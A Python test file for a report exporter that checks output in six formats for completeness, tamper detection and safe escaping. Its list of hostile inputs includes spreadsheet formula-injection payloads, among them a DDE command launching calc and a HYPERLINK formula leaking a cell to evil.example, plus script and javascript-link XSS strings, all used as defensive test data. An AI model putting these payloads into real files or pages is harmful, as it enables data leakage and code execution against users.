"""Every format has everything, keeps every text a text, and notices when a file differs."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import subprocess
from collections.abc import Callable

import msgspec
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ml_tui.content import load_catalog
from ml_tui.domain.project import ItemState, Project, ProjectInfo, RowState
from ml_tui.errors import NotWritten, UsageError
from ml_tui.export import ExportDiffers, produce
from ml_tui.export.formats.csv_ import guarded, unguarded
from ml_tui.export.formats.markdown import escaped, unescaped
from ml_tui.export.registry import FORMATS, find_format
from ml_tui.i18n import LANGUAGES, Language
from ml_tui.report.building import build
from ml_tui.text import clean_text
from ml_tui.workbook.writer.cells import pieces
from ml_tui.workbook.writer.checking import read_grids
from tests.unit.report_samples import (
    INFO,
    ITEM_IDS,
    OTHER_MARKERS,
    TODAY,
    hostile_project,
    marked_project,
    markers,
    milestones,
    report_on,
)

HOSTILE = (
    "=1+1",
    "+82-2-1234-5678",
    "-1",
    "@SUM(A1)",
    "＝1＋1",
    "＋82",
    "－1",
    "＠SUM(A1)",
    "\u2212 1",
    "\u3000=1+1",
    "  =1+1",
    "'=1+1",
    "''",
    "#REF!",
    "#N/A",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"여기")',
    '";=1+1',
    "_x000D_",
    "_x005F_x0041_",
    "_x0041_x0042_ x005F_",
    "<r>굵게</r>",
    "1e5",
    "2027-03-31",
    "TRUE",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[여기](javascript:alert(1))",
    "a | b \\| c \\\\| d",
    "**굵게** __밑줄__ ~~지움~~ `코드` $수식$",
    "1. 하나",
    "&amp; &#124; &lt;",
    "끝에 역슬래시 \\",
    "\u3000",
    "\u00a0앞뒤 빈칸\u2003",
    "{=1} {{7*7}}",
    "👍🏽 👨‍👩‍👧 가\u0301",
)


def markdown_text(data: bytes) -> str:
    lines = data.decode().replace("<br>", "\n").split("\n")
    return "\n".join(unescaped(line) for line in lines)


def xlsx_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row)


def html_text(data: bytes) -> str:
    return html.unescape(re.sub("<[^>]*>", "", data.decode()))


def pdf_text(data: bytes) -> str:
    """The text of a PDF without blanks and breaks, because a PDF wraps lines anew."""
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed")
    done = subprocess.run(["pdftotext", "-raw", "-", "-"], input=data, capture_output=True, check=True)
    return "".join(done.stdout.decode().split())


READERS: dict[str, Callable[[bytes], str]] = {
    "xlsx": xlsx_text,
    "pdf": pdf_text,
    "html": html_text,
    "md": markdown_text,
    "csv": lambda data: data.decode("utf-8-sig"),
    "json": lambda data: json.dumps(json.loads(data), ensure_ascii=False).replace("\\n", "\n"),
}


def test_every_format_has_a_test_reader() -> None:
    assert set(READERS) == set(FORMATS)


@pytest.mark.parametrize("name", FORMATS)
def test_every_field_of_every_item_is_in_every_format(name: str) -> None:
    text = READERS[name](produce(report_on(marked_project(), past=milestones()), name))
    wanted = [marker for number, item in enumerate(ITEM_IDS, start=10) for marker in markers(item, number)]
    if FORMATS[name].complete:
        wanted += OTHER_MARKERS
    if name == "pdf":
        wanted = ["".join(marker.split()) for marker in wanted]
    assert [marker for marker in wanted if marker not in text] == []


@pytest.mark.parametrize("name", [name for name in FORMATS if name != "xlsx"])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_goes_through_every_format_unchanged(name: str, text: str) -> None:
    assert clean_text(text) == text
    report = report_on(hostile_project(text))
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []


@pytest.mark.parametrize("name", FORMATS)
def test_an_empty_project_goes_through_every_format(name: str) -> None:
    report = report_on(Project(ProjectInfo(id="p-1", name="새 프로젝트", created=TODAY)), depth="executive", log=())
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []


@pytest.mark.parametrize(
    ("name", "old", "new", "place"),
    [
        ("csv", "메모-beta", "매모-beta", "구현 체크리스트 3:메모"),
        ("csv", '"epsilon"\r\n', '"epsilon"\r\n"x"\r\n', "구현 체크리스트"),
        ("json", '"owner": "담당-beta"', '"owner": "담당"', "$.items[1].owner"),
        ("json", '"met": true', '"met": 1', "$.items[0].criteria[0].met"),
        ("md", "둘째 줄-beta", "", "구현 체크리스트 1.2 항목 1.2: 메모"),
        ("md", "| 행 메모-1.1.2 |", "|  |", "구성 요소 매핑 1.1.2: 메모"),
        ("md", "## 구현 내용\n", "## 다른 것\n", "다른 것"),
        ("md", "| 원천   | -> |", "| 원천   |    |", "파이프라인 단계 2 흐름"),
        ("html", "둘째 줄-beta", "", "구현 체크리스트 1.2 항목 1.2: 메모"),
        ("html", "행 메모-1.1.2", "행 매모-1.1.2", "구성 요소 매핑 2: 메모"),
        ("html", 'id="t-criteria"', 'id="t-other"', "구현 내용"),
    ],
)
def test_a_tampered_text_file_is_recognised(name: str, old: str, new: str, place: str) -> None:
    report = report_on(marked_project())
    text = FORMATS[name].render(report).decode()
    assert old in text
    changed = text.replace(old, new, 1).encode()
    assert place in FORMATS[name].compare(changed, report)


@pytest.mark.parametrize("name", [name for name in FORMATS if name != "xlsx"])
def test_bytes_that_are_no_text_are_a_difference_not_a_crash(name: str) -> None:
    assert FORMATS[name].compare(b"\xff\xfe{", report_on(marked_project())) != []


def test_a_file_that_differs_from_the_report_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(FORMATS, "csv", msgspec.structs.replace(FORMATS["csv"], render=lambda report: b"nothing"))
    with pytest.raises(ExportDiffers) as caught:
        produce(report_on(marked_project()), "csv")
    assert isinstance(caught.value, NotWritten)
    assert caught.value.places == ["구현 체크리스트"]


def test_an_unknown_format_is_answered_with_the_known_ones() -> None:
    with pytest.raises(UsageError) as caught:
        find_format("docx")
    assert "xlsx, pdf, html, md, csv, json" in caught.value.hint


def test_csv_suits_excel_and_contains_no_formula() -> None:
    data = produce(report_on(hostile_project("=1+1")), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    fields = dict(zip(lines[0], lines[1], strict=True))
    assert (fields["메모"], fields["담당자"], fields["검증자"]) == ("'=1+1",) * 3
    assert (fields["충족 내용"], fields["전체 내용"], fields["id"]) == ("0", "3", "alpha")
    assert re.fullmatch(rb'("[^"]*",?)+', data[3:].split(b"\r\n")[0])
    assert data.count(b"\r\n") == len(lines)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_csv_field_begins_like_a_formula(text: str) -> None:
    for line in csv.reader(
        io.StringIO(produce(report_on(hostile_project(text)), "csv").decode("utf-8-sig"), newline="")
    ):
        assert [field for field in line if field.lstrip()[:1] in tuple("=+-@＝＋－＠\u2212")] == []


def test_json_is_one_document_with_a_version() -> None:
    document = json.loads(produce(report_on(marked_project()), "json"))
    assert (document["format"], document["version"], document["revision"]) == ("ml-tui-report", 1, 7)
    assert document["project"]["next_review"] == "2027-05-28"
    assert [item["id"] for item in document["items"]] == list(ITEM_IDS)
    assert document["log"][1]["fields"][1]["after"] == ["one", "two"]
    assert document["log"][1]["at"] == "2027-01-04T16:30:00+00:00"


def test_markdown_lets_no_markup_of_users_take_effect() -> None:
    text = produce(report_on(hostile_project("<script>x</script> [a](b) | **c** `d`")), "md").decode()
    assert "<script" not in text
    assert "\\[a\\](b) \\| \\*\\*c\\*\\* \\`d\\`" in text
    assert escaped("https://a.example/b_c?d=1&e") == "https://a.example/b_c?d=1&amp;e"
    assert (escaped("# 제목"), escaped("- 목록"), escaped("12) 열둘"), escaped("  들여쓰기 ")) == (
        "\\# 제목",
        "\\- 목록",
        "12\\) 열둘",
        "&#32;&#32;들여쓰기&#32;",
    )


def test_markdown_has_a_section_for_every_item() -> None:
    text = produce(report_on(marked_project()), "md").decode()
    assert re.findall(r"^### (.+)$", text, re.MULTILINE) == [
        f"{no} 항목 {no}" for no in ("1.1", "1.2", "1.3", "2.1", "2.2")
    ]
    assert "  > 메모-alpha<br>\n  > 둘째 줄-alpha\n" in text


texts = st.text(max_size=80).map(clean_text)
nasty = st.text(alphabet="r=+-@'\"|\\`*_[]<>&#;~$!.()1x05F \n가ㅎ👍\u200d＝\u3000", max_size=40).map(clean_text)


@settings(max_examples=25)
@given(note=texts | nasty, plan=nasty)
def test_any_clean_text_survives_every_format(note: str, plan: str) -> None:
    note, plan = note.strip("\n"), plan.strip("\n")
    report = report_on(Project(INFO, {"alpha": ItemState(note=note, plan=plan)}), log=())
    data = {name: produce(report, name) for name in FORMATS if name != "pdf"}
    lines = list(csv.reader(io.StringIO(data["csv"].decode("utf-8-sig"), newline="")))
    fields = dict(zip(lines[0], lines[1], strict=True))
    assert (unguarded(fields["메모"]), unguarded(fields["계획"])) == (note, plan)
    item = json.loads(data["json"])["items"][0]
    assert (item["note"], item["plan"]) == (note, plan)
    head, row = read_grids(data["xlsx"])["구현 체크리스트"][:2]
    assert row[head.index("메모")] == note


@given(nasty | st.text().map(clean_text))
def test_escapes_can_be_undone(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert [unescaped(escaped(line)) for line in text.split("\n")] == text.split("\n")
    assert "".join(pieces(text)) == text


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", FORMATS)
def test_the_built_in_catalog_goes_through_every_format(name: str, language: Language) -> None:
    loaded = load_catalog()
    items = {item.id: ItemState(note=item.meaning.ko, plan=item.good.en) for item in loaded.catalog.items()}
    rows = {row.no: RowState(True, "https://portal.example/a_b", row.meaning.ko) for row in loaded.catalog.rows}
    report = build(
        loaded.catalog, Project(INFO, items, rows), language=language, revision=1, digest=loaded.digest, today=TODAY
    )
    assert FORMATS[name].compare(FORMATS[name].render(report), report) == []
